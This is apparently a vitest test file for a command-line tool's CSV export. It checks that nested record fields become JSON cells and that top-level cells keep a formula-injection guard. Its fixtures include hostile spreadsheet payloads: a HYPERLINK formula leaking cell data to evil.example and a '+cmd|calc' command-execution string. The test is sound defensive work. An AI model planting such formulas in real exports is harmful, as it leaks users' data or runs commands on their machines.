// -o csv of every list holds what --json holds: every field of the records, a nested value (an object, an array)
// as one cell of compact JSON, which no spreadsheet runs whatever the strings inside it say; top-level cells keep
// the formula guard. (calls list -o csv used to drop nested fields; the other lists dropped undocumented ones.)
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvFormulaSafe } from '../../src/io/safe.js';
import { json, page, useHostileServer } from './server.js';

const KEY = 'vk_live_9f2c4e6a8b1d3f5a7c9e';
const { server, run } = useHostileServer(KEY);

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
const analysis = { summary: FORMULA, note: 'a, "quoted" b', score: -1 };
const tags = ['@SUM(1+1)', 'x,y', 'say "hi"'];

/** Records of each list: nested fields in the first, of another shape in the second, null in the third. */
const LISTS: { argv: string[]; path: string; base: (i: number) => Record<string, unknown> }[] = [
  {
    argv: ['calls', 'list'],
    path: '/v1/calls',
    base: (i) => ({ id: `call_${i}`, status: 'completed', createdAt: '2026-11-23T10:00:00.000Z', toNumber: '+39333' }),
  },
  {
    argv: ['messages', 'list'],
    path: '/v1/messages',
    base: (i) => ({ id: `msg_${i}`, channel: 'sms', body: 'hi', createdAt: '2026-11-23T10:00:00.000Z' }),
  },
  {
    argv: ['campaigns', 'list'],
    path: '/v1/campaigns',
    base: (i) => ({ id: `cmp_${i}`, name: 'N', status: 'DRAFT', counters: { total: 3, completed: 1 } }),
  },
  {
    argv: ['tts', 'list'],
    path: '/v1/tts',
    base: (i) => ({ id: `tts_${i}`, status: 'completed', text: 'hi', createdAt: '2026-11-23T10:00:00.000Z' }),
  },
];

/** The cell -o csv must hold for a value of the --json output. */
function expectedCell(v: unknown, raw: boolean): string {
  if (v === null || v === undefined) return '';
  const s = typeof v === 'object' ? JSON.stringify(v) : String(v);
  return raw ? s : csvFormulaSafe(s);
}

describe.each(LISTS)('$argv.0 list -o csv keeps nested fields', ({ argv, path, base }) => {
  const records = [
    { ...base(1), analysis, tags, extra: '+cmd|calc' },
    { ...base(2), analysis: { summary: '-2+3', nested: { deep: [1, '=1'] } }, tags: [], extra: null },
    { ...base(3), analysis: null, tags: null },
  ];

  it('every field of --json is a column; nested values are JSON in one cell, inert in a spreadsheet', async () => {
    server.on('GET', path, (_q, res) => json(res, 200, page(records, { page: 1, totalPages: 1 })));
    const asJson = await run([...argv, '--json']);
    expect(asJson.code, asJson.stderr).toBe(0);
    const data = JSON.parse(asJson.stdout) as Record<string, unknown>[];
    for (const raw of [false, true]) {
      const r = await run([...argv, '-o', 'csv', ...(raw ? ['--csv-raw'] : [])]);
      expect(r.code, r.stderr).toBe(0);
      const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(3);
      data.forEach((rec, i) => {
        for (const [k, v] of Object.entries(rec)) expect(rows[i][k], `${k} of record ${i}`).toBe(expectedCell(v, raw));
      });
      // The nested values read back as the very same data.
      expect(JSON.parse(rows[0].analysis)).toEqual(analysis);
      expect(JSON.parse(rows[0].tags)).toEqual(tags);
      expect(JSON.parse(rows[1].analysis)).toEqual(records[1].analysis);
      expect(rows[1].tags).toBe('[]');
      // A JSON cell starts with { or [: nothing a spreadsheet runs. A top-level string keeps the guard.
      for (const row of rows.slice(0, 2)) for (const k of ['analysis', 'tags']) expect(row[k]).toMatch(/^[[{]/);
      expect([rows[2].analysis, rows[2].tags]).toEqual(['', '']);
      expect(rows[0].extra).toBe(raw ? '+cmd|calc' : "'+cmd|calc");
    }
  });
});
